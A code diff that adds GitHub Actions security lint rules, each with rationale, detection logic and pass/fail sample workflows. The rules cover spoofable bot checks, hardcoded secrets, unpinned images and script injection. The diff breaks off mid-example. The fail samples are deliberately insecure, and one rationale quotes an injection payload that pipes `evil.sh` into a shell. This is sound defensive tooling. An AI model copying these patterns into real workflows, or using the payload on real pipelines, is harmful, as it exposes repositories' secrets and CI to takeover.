@@ -327,6 +327,75 @@ extension BuiltinPolicies {
 
       """#),
     PolicySource(
+      path: "rules/security/github/bot_actor_condition.plumb",
+      text: #"""
+      rule bot_actor_condition {
+        title "Privileged jobs are not gated on a spoofable bot actor"
+        severity high
+        category security
+        tags [github-actions, pwn-request]
+        rationale """
+          `github.actor` (and `triggering_actor`, `event.sender`) is whoever caused the latest event,
+          not who wrote the pull request. An attacker can open a pull request from a fork and get
+          Dependabot or Renovate to act on it (a rebase, a `@dependabot recreate` on their branch, a
+          synchronised dependency update), so `if: github.actor == 'dependabot[bot]'` in a
+          `pull_request_target`, `workflow_run` or comment-triggered workflow lets the attacker's
+          changes through a check meant for the bot: typically straight to an auto-approve or auto-merge
+          step with a write token.
+        """
+        remediation """
+          Check who opened the pull request instead, which an outsider cannot change:
+          `github.event.pull_request.user.login == 'dependabot[bot]'` (and, for auto-merge, use
+          `dependabot/fetch-metadata`).
+        """
+        param triggers: list<string> = ["pull_request_target", "workflow_run", "issue_comment", "pull_request_review", "pull_request_review_comment"]
+        param bot_check: string = "(?i)((github(\\.|\\[')(actor|triggering_actor)('\\])?|github\\.event\\.(pull_request\\.)?sender\\.login)\\s*==\\s*'[^']*\\[bot\\]'|'[^']*\\[bot\\]'\\s*==\\s*(github(\\.|\\[')(actor|triggering_actor)('\\])?|github\\.event\\.(pull_request\\.)?sender\\.login)|github(\\.|\\[')actor_id('\\])?\\s*==\\s*'?(49699333|29110|27856297|29139614)\\b|\\b(49699333|29110|27856297|29139614)'?\\s*==\\s*github(\\.|\\[')actor_id)"
+
+        for j in github.job
+        let wf = first(j -> inWorkflow)
+        let risky = filter(t in default(wf.triggers, []), t in param.triggers)
+        when count(risky) > 0
+        let job_checks = filter(e in j.expressions, e.field == "if" and e.text matches param.bot_check)
+        let step_checks = filter(i in map(i, st in default(j.steps, []), i), to_string(default(j.steps[i]["if"], "")) matches param.bot_check)
+        require count(job_checks) == 0
+          else "job '${j.id}' is gated on the spoofable actor ('${first(job_checks).text}') in a workflow triggered by ${join(risky, ", ")}" at first(job_checks)
+        require count(step_checks) == 0
+          else "step ${first(step_checks) + 1} of job '${j.id}' is gated on the spoofable actor ('${trim(to_string(j.steps[first(step_checks)]["if"]))}') in a workflow triggered by ${join(risky, ", ")} (${count(step_checks)} such step(s) in the job)" at j.steps[first(step_checks)]["if"]
+
+        example pass """
+          on: pull_request_target
+          jobs:
+            automerge:
+              if: github.event.pull_request.user.login == 'dependabot[bot]'
+              runs-on: ubuntu-24.04
+              steps:
+                - if: github.actor != 'dependabot[bot]'
+                  run: echo "not the bot"
+        """
+        example pass "ordinary trigger" """
+          on: pull_request
+          jobs:
+            automerge:
+              if: github.actor == 'dependabot[bot]'
+              runs-on: ubuntu-24.04
+              steps:
+                - run: echo hi
+        """
+        example fail """
+          on: pull_request_target
+          jobs:
+            automerge:
+              if: ↓github.actor == 'dependabot[bot]' && github.repository == 'acme/app'
+              runs-on: ubuntu-24.04
+              steps:
+                - run: echo ok
+                - if: ↓${{ github['ACTOR_ID'] == 49699333 }}
+                  run: gh pr merge --auto --squash "$PR_URL"
+        """ expect "job 'automerge' is gated on the spoofable actor ('github.actor == 'dependabot[bot]' && github.repository == 'acme/app'') in a workflow triggered by pull_request_target" expect "step 2 of job 'automerge'"
+      }
+
+      """#),
+    PolicySource(
       path: "rules/security/github/checkout_persist_credentials.plumb",
       text: #"""
       rule checkout_persist_credentials {
@@ -342,8 +411,9 @@ extension BuiltinPolicies {
 
         for s in github.step
         when s.uses_ref.owner == "actions" and s.uses_ref.repo == "checkout"
-        require s.with["persist-credentials"] == false
-          else "checkout in job '${s.job}' keeps the GITHUB_TOKEN in .git/config" at s.uses
+        # `false` or the string "false" (quoted YAML) both turn persistence off.
+        require lower(to_string(default(s.with["persist-credentials"], true))) == "false"
+          else "checkout in job '${default(s.job, "(composite action)")}' keeps the GITHUB_TOKEN in .git/config" at s.uses
           fix { set s.with["persist-credentials"] = false }
 
         example pass """
@@ -355,6 +425,9 @@ extension BuiltinPolicies {
                 - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
                   with:
                     persist-credentials: false
+                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
+                  with:
+                    persist-credentials: "false"
         """
         example fail """
           on: push
@@ -363,7 +436,843 @@ extension BuiltinPolicies {
               runs-on: ubuntu-24.04
               steps:
                 - uses: ↓actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
+                - uses: ↓actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
+                  with:
+                    persist-credentials: true
         """ expect "checkout in job 'build' keeps the GITHUB_TOKEN in .git/config"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/container_credentials_hardcoded.plumb",
+      text: #"""
+      rule container_credentials_hardcoded {
+        title "Container registry passwords are not written in the workflow"
+        severity high
+        category security
+        tags [github-actions, secrets, credentials]
+        rationale """
+          A `password` written in a job's `container.credentials` or `services.<name>.credentials` is
+          readable by everyone who can read the repository (and its whole history, forks included), and
+          cannot be rotated without a commit. Registry credentials give push access to images that other
+          pipelines and production run.
+        """
+        remediation "Store the password as an encrypted secret and reference it: `password: ${{ secrets.REGISTRY_PASSWORD }}`; then rotate the exposed password."
+
+        for j in github.job("steps")
+        let literal = "^(?![\\s\\S]*\\$\\{\\{)[\\s\\S]*\\S"
+        let services = filter(k in keys(default(j.services, {})),
+          to_string(default(j.services[k].credentials.password, "")) matches literal)
+        require not (to_string(default(j.container.credentials.password, "")) matches literal)
+          else "job '${j.id}' writes the container registry password in the workflow" at j.container.credentials.password
+        require count(services) == 0
+          else "job '${j.id}' writes the registry password of service '${first(services)}' in the workflow" at j.services[first(services)].credentials.password
+
+        example pass """
+          on: push
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              container:
+                image: ghcr.io/acme/build:1.4.2
+                credentials:
+                  username: ${{ github.actor }}
+                  password: ${{ secrets.GITHUB_TOKEN }}
+              services:
+                db:
+                  image: postgres:16
+                  env:
+                    POSTGRES_PASSWORD: postgres
+              steps:
+                - run: make test
+        """
+        example fail """
+          on: push
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              container:
+                image: registry.example.com/build:1.4.2
+                credentials:
+                  username: ci
+                  password: ↓hackme
+              services:
+                cache:
+                  image: registry.example.com/redis:7
+                  credentials:
+                    username: ci
+                    password: ↓"s3cr3t-passw0rd"
+              steps:
+                - run: make test
+        """ expect "job 'test' writes the container registry password in the workflow" expect "password of service 'cache'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/container_images_pinned_by_digest.plumb",
+      text: #"""
+      rule container_images_pinned_by_digest {
+        title "Job containers and service containers are pinned by digest"
+        severity medium
+        category security
+        tags [github-actions, supply-chain, containers]
+        rationale """
+          The image of a job's `container:` or of a `services:` container runs with the job's token and
+          secrets (the job container runs every step). An untagged or `latest` image changes with every
+          push to the registry; any tag can be re-pushed by whoever controls the image, or by an attacker
+          who stole their credentials. A `@sha256:` digest names exactly one image. Images computed by an
+          expression (`${{ matrix.image }}`) are not judged.
+        """
+        remediation "Reference the image by digest, keeping the tag for readers: `image: node:20.11.1@sha256:…` (Dependabot and Renovate update such pins)."
+
+        for j in github.job("steps")
+        # An image whose name is an expression cannot be judged; a literal name with a tag computed by
+        # an expression (`node:${{ matrix.node }}`) is still a tag.
+        let judged = filter(i in j.container_images, not (i.image matches "\\$\\{\\{") and trim(i.raw) != "")
+        let moving = filter(i in judged, not exists(i.digest) and default(i.tag, "") in ["", "latest"])
+        let tagged = filter(i in judged, not exists(i.digest) and default(i.tag, "") not in ["", "latest"])
+        let moving_container = filter(i in moving, i.field == "container")
+        let tagged_container = filter(i in tagged, i.field == "container")
+        let moving_services = filter(i in moving, i.field != "container")
+        let tagged_services = filter(i in tagged, i.field != "container")
+        require count(moving_container) == 0
+          else "job '${j.id}' runs in container image '${first(moving_container).raw}', which follows the moving 'latest' tag" at first(moving_container)
+        require count(tagged_container) == 0
+          else "job '${j.id}' runs in container image '${first(tagged_container).raw}' by tag, not by digest" at first(tagged_container)
+        require count(moving_services) == 0
+          else "job '${j.id}' starts service '${replace(first(moving_services).field, "services.", "")}' from image '${first(moving_services).raw}', which follows the moving 'latest' tag (${count(moving_services)} such service(s))" at first(moving_services)
+        require count(tagged_services) == 0
+          else "job '${j.id}' starts service '${replace(first(tagged_services).field, "services.", "")}' from image '${first(tagged_services).raw}' by tag, not by digest (${count(tagged_services)} such service(s))" at first(tagged_services)
+
+        example pass """
+          on: push
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              container:
+                image: node:20.11.1@sha256:8e1ae4a0d5e1fbc4d2f7a9b3c6e0d1f2a3b4c5d6e7f8091a2b3c4d5e6f708192
+              services:
+                db:
+                  image: ${{ matrix.db }}
+              strategy:
+                matrix:
+                  db: ["postgres:16@sha256:1f2e3d4c5b6a79880716253443526170f8e9d0c1b2a3f4e5d6c7b8a9f0e1d2c3"]
+              steps:
+                - run: npm test
+        """
+        example fail "latest" """
+          on: push
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              container: ↓node
+              services:
+                cache:
+                  image: ↓redis:latest
+              steps:
+                - run: npm test
+        """ expect "job 'test' runs in container image 'node', which follows the moving 'latest' tag" expect "starts service 'cache' from image 'redis:latest', which follows the moving 'latest' tag (1 such service(s))"
+        example fail "tag" """
+          on: push
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              container: ↓rockylinux/rockylinux:${{ matrix.version }}
+              strategy:
+                matrix:
+                  version: ["9.5"]
+              services:
+                db:
+                  image: ↓postgres:16.2
+              steps:
+                - run: npm test
+        """ expect "job 'test' runs in container image 'rockylinux/rockylinux:${{ matrix.version }}' by tag, not by digest" expect "starts service 'db' from image 'postgres:16.2' by tag, not by digest"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/dangerous_workflow_triggers.plumb",
+      text: #"""
+      rule dangerous_workflow_triggers {
+        title "pull_request_target and workflow_run workflows are gated"
+        severity medium
+        category security
+        tags [github-actions, pwn-request]
+        rationale """
+          `pull_request_target` and `workflow_run` run the base repository's workflow with its secrets
+          and a token that can write, for events any GitHub user can cause by opening a pull request from
+          a fork. Every step is then one mistake (a checkout of the head, an expansion of the title, a
+          cache or artifact written by the fork's run) away from handing those secrets to the attacker.
+          Jobs gated on the pull request's origin (`head.repo.full_name == github.repository`, a
+          maintainer-applied label, `author_association`, `workflow_run.event`) and workflows that only
+          run `actions/labeler`-like actions are not reported.
+        """
+        remediation """
+          Prefer `pull_request` (no secrets, read-only token for forks). If the privileged trigger is
+          needed, add an `if:` to each job that checks the origin, e.g.
+          `if: github.event.pull_request.head.repo.full_name == github.repository` or a label that only
+          maintainers can apply, and keep untrusted code and data out of the job.
+        """
+        param gate: string = "(?i)(head\\.repo\\.(full_name|fork|owner)|head_repository\\.(full_name|fork|owner)|\\.labels|label\\.name|author_association|workflow_run\\.event\\b|pull_request\\.user\\.(login|id))"
+        param safe_actions: list<string> = ["actions/labeler", "actions/first-interaction"]
+
+        for w in github.workflow
+        let risky = filter(t in w.triggers, t in ["pull_request_target", "workflow_run"])
+        when count(risky) > 0
+        let jobs = values(w.jobs)
+        let ungated = filter(k in keys(w.jobs), not (to_string(default(w.jobs[k]["if"], "")) matches param.gate))
+        let steps = flatten(map(jb in jobs, default(jb.steps, [])))
+        let safe_only = all(jb in jobs, exists(jb.steps)) and count(steps) > 0
+          and all(st in steps, any(a in param.safe_actions, starts_with(lower(to_string(default(st.uses, ""))), a + "@")))
+        require count(ungated) == 0 or safe_only
+          else "the workflow runs on ${join(risky, " and ")} with secrets and a write token for events from forks, and job '${join(ungated, "', '")}' does not check where the change comes from" at default(w.on[first(risky)], w.on)
+
+        example pass "gated on the origin" """
+          on: pull_request_target
+          permissions:
+            pull-requests: write
+          jobs:
+            comment:
+              if: github.event.pull_request.head.repo.full_name == github.repository
+              runs-on: ubuntu-24.04
+              steps:
+                - run: gh pr comment "$PR" --body "thanks"
+        """
+        example pass "labeler only" """
+          on: pull_request_target
+          jobs:
+            label:
+              runs-on: ubuntu-24.04
+              steps:
+                - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9 # v5.0.0
+        """
+        example fail """
+          on:
+            push:
+            pull_request_target:
+              ↓types: [opened, synchronize]
+          jobs:
+            build:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: make
+        """ expect "the workflow runs on pull_request_target with secrets and a write token for events from forks, and job 'build' does not check"
+        example fail "workflow_run, string form" """
+          on: ↓workflow_run
+          jobs:
+            report:
+              if: github.event.workflow_run.conclusion == 'success'
+              runs-on: ubuntu-24.04
+              steps:
+                - run: ./report.sh
+        """ expect "runs on workflow_run"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/docker_uses_pinned_by_digest.plumb",
+      text: #"""
+      rule docker_uses_pinned_by_digest {
+        title "docker:// steps are pinned by digest"
+        severity medium
+        category security
+        tags [github-actions, supply-chain, containers]
+        rationale """
+          A `uses: docker://image:tag` step runs that image with the job's workspace, token and
+          secrets. An untagged or `latest` image changes with every push to the registry, and any tag can
+          be re-pushed by whoever controls the image (or stole their credentials). A `@sha256:` digest
+          names exactly one image.
+        """
+        remediation "Pin the image by digest: `uses: docker://alpine:3.20@sha256:…`."
+
+        for s in github.step("uses")
+        when s.uses_ref.kind == "docker" and not (s.uses_ref.raw matches "\\$\\{\\{")
+        require exists(s.uses_ref.digest) or default(s.uses_ref.tag, "") not in ["", "latest"]
+          else "step runs image '${s.uses_ref.raw}', which follows the moving 'latest' tag" at s.uses
+        require exists(s.uses_ref.digest) or default(s.uses_ref.tag, "") in ["", "latest"]
+          else "step runs image '${s.uses_ref.raw}' by tag '${s.uses_ref.tag}', not by digest" at s.uses
+
+        example pass """
+          on: push
+          jobs:
+            lint:
+              runs-on: ubuntu-24.04
+              steps:
+                - uses: docker://ghcr.io/acme/linter:2.1.0@sha256:2c9e8d7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d
+        """
+        example fail "unpinned" """
+          on: push
+          jobs:
+            lint:
+              runs-on: ubuntu-24.04
+              steps:
+                - uses: ↓docker://ubuntu
+                - uses: ↓docker://ghcr.io/acme/linter:2.1.0
+        """ expect "step runs image 'docker://ubuntu', which follows the moving 'latest' tag" expect "step runs image 'docker://ghcr.io/acme/linter:2.1.0' by tag '2.1.0', not by digest"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/github_env_untrusted_write.plumb",
+      text: #"""
+      rule github_env_untrusted_write {
+        title "Privileged workflows do not write computed values to GITHUB_ENV or GITHUB_PATH"
+        severity high
+        category security
+        tags [github-actions, injection, pwn-request]
+        rationale """
+          Lines appended to `$GITHUB_ENV` become environment variables of every later step, and lines
+          appended to `$GITHUB_PATH` decide which programs they run. In a `pull_request_target` or
+          `workflow_run` workflow the written value often comes from the fork (a title, a branch name, an
+          artifact): a newline in it sets `LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV`, or prepends a
+          directory the fork controls, and the next step runs the attacker's code with the workflow's
+          secrets. Writing a literal (`echo "CI=true" >> "$GITHUB_ENV"`) is not reported.
+        """
+        remediation """
+          Do not write values derived from the event, artifacts or the fork's files to these files.
+          Pass data between steps as step outputs (`$GITHUB_OUTPUT`, read through `env:`), validate it
+          against a strict pattern first, or move the work to an unprivileged `pull_request` workflow.
+        """
+        param triggers: list<string> = ["pull_request_target", "workflow_run"]
+
+        for s in github.step("run")
+        let wf = first(s -> inJob -> inWorkflow)
+        let risky = filter(t in default(wf.triggers, []), t in param.triggers)
+        when count(risky) > 0
+        # Lines that write to the file and are not an `echo`/`printf` of literal text only.
+        let writes = filter(l in split(to_string(s.run), "\n"),
+          l matches "(?i)(>|\\btee\\b|out-file|add-content|set-content)[^\\n]*(\\$\\{?|\\$env:|%)github_(env|path)\\b"
+          and not (l matches "^\\s*(echo|printf)\\b[^$`]*>" and not (l matches "%[A-Za-z_][A-Za-z0-9_]*%[^>]*>")))
+        let env_writes = filter(l in writes, l matches "(?i)github_env\\b")
+        let path_writes = filter(l in writes, l matches "(?i)github_path\\b")
+        require count(env_writes) == 0
+          else "job '${s.job}' writes a computed value to GITHUB_ENV in a workflow triggered by ${join(risky, ", ")}: '${trim(first(env_writes))}'" at s.run
+        require count(path_writes) == 0
+          else "job '${s.job}' writes a computed value to GITHUB_PATH in a workflow triggered by ${join(risky, ", ")}: '${trim(first(path_writes))}'" at s.run
+
+        example pass """
+          on: pull_request_target
+          jobs:
+            setup:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: |
+                    echo "CI_MODE=strict" >> "$GITHUB_ENV"
+                    printf 'A=1\nB=2\n' >> $GITHUB_ENV
+                    echo "title=$TITLE" >> "$GITHUB_OUTPUT"
+        """
+        example pass "not a privileged trigger" """
+          on: push
+          jobs:
+            setup:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: echo "VERSION=$(cat VERSION)" >> "$GITHUB_ENV"
+        """
+        example fail """
+          on: workflow_run
+          jobs:
+            report:
+              runs-on: ubuntu-24.04
+              steps:
+                - env:
+                    TITLE: ${{ github.event.workflow_run.display_title }}
+                  run: ↓|
+                    message=$(echo "$TITLE" | head -n1)
+                    echo "MESSAGE=$message" >> $GITHUB_ENV
+                - run: ↓cat artifact/path.txt | tee -a "${GITHUB_PATH}"
+        """ expect "job 'report' writes a computed value to GITHUB_ENV in a workflow triggered by workflow_run: 'echo \"MESSAGE=$message\" >> $GITHUB_ENV'" expect "to GITHUB_PATH"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/hardcoded_secret_in_workflow.plumb",
+      text: #"""
+      rule hardcoded_secret_in_workflow {
+        title "Workflows do not contain literal secrets"
+        severity high
+        category security
+        tags [github-actions, secrets, credentials]
+        rationale """
+          A token, password or key written in a workflow's `env`, an action's `with` inputs or a `run`
+          script is readable by everyone who can read the repository, stays in its history and in every
+          fork, and is not masked in logs. Reported: values with the prefix of a known credential
+          format (GitHub `ghp_`/`github_pat_`, GitLab `glpat-`, AWS `AKIA`, Slack `xox?-`, Stripe
+          `sk_live_`, npm, PyPI, PEM private keys) anywhere, and literal values of at least 8 characters
+          mixing letters and digits in keys named like a secret (`*PASSWORD*`, `*TOKEN*`, `*SECRET*`,
+          `*API_KEY*`, …). Expressions (`${{ secrets.X }}`) are not literals.
+        """
+        remediation "Move the value to an encrypted secret (or an OIDC-based credential) and reference it with `${{ secrets.NAME }}`; then revoke or rotate the exposed value, which stays in the repository's history."
+        param secret_names: string = "(?i)(passw(or)?d|passphrase|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|signing[_-]?key|credentials?)"
+        param not_secret_names: string = "(?i)[_-](file|path|name|url|uri|type|format|id|user|username|env|header|scope|endpoint|dir|length|ttl)s?$"
+        param known_prefixes: string = "(gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,}|glpat-[A-Za-z0-9_-]{20,}|\\b(AKIA|ASIA)[0-9A-Z]{16}\\b|xox[abprs]-[0-9A-Za-z-]{10,}|sk_live_[0-9A-Za-z]{24,}|\\bnpm_[A-Za-z0-9]{36}\\b|pypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}|-----BEGIN ([A-Z]+ )?PRIVATE KEY-----)"
+
+        for w in github.workflow
+        # A literal that could be a credential: no expression, no white space, letters and digits,
+        # not a path, URL or variable reference, not a placeholder.
+        let literal = "^(?![\\s\\S]*\\$\\{\\{)(?=.*[0-9])(?=.*[A-Za-z])(?![$/~.]|https?:)(?!(?i)(changeme|example|dummy|placeholder|test|fake|sample|xxx|redacted))\\S{8,}$"
+        let wf_hits = filter(k in keys(default(w.env, {})),
+          to_string(w.env[k]) matches param.known_prefixes
+          or (k matches param.secret_names and not (k matches param.not_secret_names) and to_string(w.env[k]) matches literal))
+        let job_hits = flatten(map(jk in keys(w.jobs), map(k in filter(k in keys(default(w.jobs[jk].env, {})),
+            to_string(w.jobs[jk].env[k]) matches param.known_prefixes
+            or (k matches param.secret_names and not (k matches param.not_secret_names) and to_string(w.jobs[jk].env[k]) matches literal)),
+          {job: jk, key: k})))
+        let env_hits = flatten(map(jk in keys(w.jobs), flatten(map(i, st in default(w.jobs[jk].steps, []),
+          map(k in filter(k in keys(default(st.env, {})),
+              to_string(st.env[k]) matches param.known_prefixes
+              or (k matches param.secret_names and not (k matches param.not_secret_names) and to_string(st.env[k]) matches literal)),
+            {job: jk, index: i, key: k})))))
+        let with_hits = flatten(map(jk in keys(w.jobs), flatten(map(i, st in default(w.jobs[jk].steps, []),
+          map(k in filter(k in keys(default(st.with, {})),
+              to_string(st.with[k]) matches param.known_prefixes
+              or (k matches param.secret_names and not (k matches param.not_secret_names) and to_string(st.with[k]) matches literal)),
+            {job: jk, index: i, key: k})))))
+        let run_hits = flatten(map(jk in keys(w.jobs), filter(h in map(i, st in default(w.jobs[jk].steps, []),
+            {job: jk, index: i, hit: to_string(default(st.run, "")) matches param.known_prefixes}), h.hit)))
+        require count(wf_hits) == 0
+          else "workflow env '${first(wf_hits)}' holds a literal secret" at w.env[first(wf_hits)]
+        require count(job_hits) == 0
+          else "env '${first(job_hits).key}' of job '${first(job_hits).job}' holds a literal secret" at w.jobs[first(job_hits).job].env[first(job_hits).key]
+        require count(env_hits) == 0
+          else "env '${first(env_hits).key}' of step ${first(env_hits).index + 1} in job '${first(env_hits).job}' holds a literal secret" at w.jobs[first(env_hits).job].steps[first(env_hits).index].env[first(env_hits).key]
+        require count(with_hits) == 0
+          else "input '${first(with_hits).key}' of step ${first(with_hits).index + 1} in job '${first(with_hits).job}' is a literal secret" at w.jobs[first(with_hits).job].steps[first(with_hits).index].with[first(with_hits).key]
+        require count(run_hits) == 0
+          else "the run script of step ${first(run_hits).index + 1} in job '${first(run_hits).job}' contains a credential with a known token format" at w.jobs[first(run_hits).job].steps[first(run_hits).index].run
+
+        example pass """
+          on: push
+          env:
+            NODE_ENV: production
+            TOKEN_URL: https://auth.example.com/token
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              env:
+                DB_PASSWORD: postgres
+                GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}
+              steps:
+                - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0
+                  with:
+                    token: ${{ secrets.NODE_TOKEN }}
+                - run: npm test
+                  env:
+                    API_KEY_FILE: /run/secrets/api_key
+                    AWS_ACCESS_KEY_ID: ${{ vars.AWS_KEY_ID }}
+        """
+        example fail """
+          on: push
+          env:
+            AWS_ACCESS_KEY_ID: ↓AKIAIOSFODNN7EXAMPLE
+          jobs:
+            deploy:
+              runs-on: ubuntu-24.04
+              env:
+                SERVICE_PASSWORD: ↓Tr0ub4dor-and-3
+              steps:
+                - run: ./deploy.sh
+                  env:
+                    SLACK_TOKEN: ↓xoxb-123456789012-abcdefghijkl
+                - uses: acme/publish@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3
+                  with:
+                    api-key: ↓9f8e7d6c5b4a39281706f5e4d3c2b1a0
+                - run: ↓|
+                    curl -H "Authorization: token ghp_0123456789abcdefghijABCDEFGHIJ012345" https://api.github.com/user
+        """ expect "workflow env 'AWS_ACCESS_KEY_ID' holds a literal secret" expect "env 'SERVICE_PASSWORD' of job 'deploy'" expect "env 'SLACK_TOKEN' of step 1 in job 'deploy'" expect "input 'api-key' of step 2 in job 'deploy' is a literal secret" expect "the run script of step 3 in job 'deploy' contains a credential"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/input_expanded_into_script.plumb",
+      text: #"""
+      rule input_expanded_into_script {
+        title "Free-text inputs are not expanded into run scripts"
+        severity medium
+        category security
+        tags [github-actions, injection]
+        rationale """
+          `${{ inputs.x }}` is pasted into the script text before the shell runs it. A string input of
+          a `workflow_dispatch` (anyone with write access, or a token that can dispatch), of a reusable
+          workflow (whatever the caller passes, often a pull request title or branch name), or of a
+          composite action becomes shell code: `x"; curl evil.sh | sh; "` runs. Inputs typed `boolean`,
+          `number`, `choice` or `environment` cannot carry code and are not reported.
+        """
+        remediation """
+          Pass the input through an environment variable (`env: VERSION: ${{ inputs.version }}`) and use
+          `"$VERSION"` in the script; or give the input a `boolean`, `number` or `choice` type.
+        """
+        param code_inputs: list<string> = [
+          "actions/github-script:script", "amadevus/pwsh-script:script",
+          "jannekem/run-python-script-action:script", "cardinalby/js-eval-action:expression",
+          "azure/cli:inlinescript", "azure/powershell:inlinescript", "mikefarah/yq:cmd",
+          "addnab/docker-run-action:run", "appleboy/ssh-action:script"
+        ]
+
+        param boolean_valued: string = "(?i)^\\s*!?\\s*(startswith|endswith|contains)\\([^&|]*\\)\\s*$|^[^'&|]*(==|!=|<|>)[^&|]*$"
+
+        for s in github.step
+        let wf = first(s -> inJob -> inWorkflow)
+        let action = lower(default(s.uses_ref.owner, "") + "/" + default(s.uses_ref.repo, ""))
+        let sinks = filter(e in s.expressions, e.field == "run"
+          or (starts_with(e.field, "with.") and (action + ":" + lower(replace(e.field, "with.", ""))) in param.code_inputs))
+        # A context is risky when it is `inputs`/`github.event.inputs` (whole or one input) and the
+        # input is not declared with a type that cannot carry text.
+        let risky = filter(e in sinks, not (e.text matches param.boolean_valued) and any(c in e.contexts,
+          c matches "^(github\\.event\\.)?inputs(\\.|\\[|$)"
+          and default(wf.on.workflow_dispatch.inputs[replace(replace(c, "github.event.inputs.", ""), "inputs.", "")].type,
+                      wf.on.workflow_call.inputs[replace(replace(c, "github.event.inputs.", ""), "inputs.", "")].type)
+              not in ["boolean", "number", "choice", "environment"]))
+        require count(risky) == 0
+          else "'${first(risky).text}' is expanded into ${default({run: "a run script"}[first(risky).field], "the '" + replace(first(risky).field, "with.", "") + "' input of " + action)}; whoever supplies the input writes code into the step" at first(risky)
+
+        example pass """
+          on:
+            workflow_dispatch:
+              inputs:
+                dry-run:
+                  type: boolean
+                target:
+                  type: choice
+                  options: [staging, production]
+                version:
+                  type: string
+          jobs:
+            release:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: ./release.sh --dry-run=${{ inputs.dry-run }} --target ${{ inputs.target }} --v2=${{ startsWith(inputs.version, '2.') }}
+                - env:
+                    VERSION: ${{ inputs.version }}
+                  run: ./tag.sh "$VERSION"
+        """
+        example fail "string input of workflow_dispatch" """
+          on:
+            workflow_dispatch:
+              inputs:
+                version:
+                  type: string
+          jobs:
+            release:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: git tag "↓${{ inputs.version }}"
+        """ expect "'inputs.version' is expanded into a run script"
+        example fail {
+          file "action.yml" """
+            name: greet
+            inputs:
+              who:
+                description: who to greet
+            runs:
+              using: composite
+              steps:
+                - run: echo "hello ↓${{ inputs.who }}"
+                  shell: bash
+          """
+        } expect "'inputs.who' is expanded into a run script"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/insecure_workflow_commands_enabled.plumb",
+      text: #"""
+      rule insecure_workflow_commands_enabled {
+        title "Deprecated set-env and add-path workflow commands stay disabled"
+        severity high
+        category security
+        tags [github-actions, injection]
+        rationale """
+          `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` re-enables the `::set-env` and `::add-path` workflow
+          commands, which GitHub disabled in 2020 (CVE-2020-15228): any process that can print to the
+          job's log (a test printing a pull request title, a dependency, a log line from a server) can
+          then set `LD_PRELOAD` or `NODE_OPTIONS` or prepend to `PATH` for the following steps and run
+          code with the job's secrets.
+        """
+        remediation "Remove `ACTIONS_ALLOW_UNSECURE_COMMANDS`, and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead of printing `::set-env`/`::add-path`."
+
+        for w in github.workflow
+        let enabled = "(?i)^\\s*true\\s*$"
+        let jobs = filter(k in keys(w.jobs), to_string(default(w.jobs[k].env.ACTIONS_ALLOW_UNSECURE_COMMANDS, "")) matches enabled)
+        let steps = filter(st in flatten(map(jb in values(w.jobs), default(jb.steps, []))),
+          to_string(default(st.env.ACTIONS_ALLOW_UNSECURE_COMMANDS, "")) matches enabled)
+        require not (to_string(default(w.env.ACTIONS_ALLOW_UNSECURE_COMMANDS, "")) matches enabled)
+          else "the workflow sets ACTIONS_ALLOW_UNSECURE_COMMANDS to '${w.env.ACTIONS_ALLOW_UNSECURE_COMMANDS}' for every job" at w.env.ACTIONS_ALLOW_UNSECURE_COMMANDS
+        require count(jobs) == 0
+          else "job '${first(jobs)}' sets ACTIONS_ALLOW_UNSECURE_COMMANDS to '${w.jobs[first(jobs)].env.ACTIONS_ALLOW_UNSECURE_COMMANDS}'" at w.jobs[first(jobs)].env.ACTIONS_ALLOW_UNSECURE_COMMANDS
+        require count(steps) == 0
+          else "a step sets ACTIONS_ALLOW_UNSECURE_COMMANDS to '${first(steps).env.ACTIONS_ALLOW_UNSECURE_COMMANDS}' (${count(steps)} step(s) in all)" at first(steps).env.ACTIONS_ALLOW_UNSECURE_COMMANDS
+
+        example pass """
+          on: push
+          env:
+            ACTIONS_ALLOW_UNSECURE_COMMANDS: false
+          jobs:
+            build:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: echo "PATH_ADDITION=/opt/tool/bin" >> "$GITHUB_ENV"
+        """
+        example fail """
+          on: push
+          env:
+            ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓true
+          jobs:
+            build:
+              runs-on: ubuntu-24.04
+              env:
+                ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓"true"
+              steps:
+                - run: echo "::add-path::/opt/tool/bin"
+                  env:
+                    ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓'TRUE'
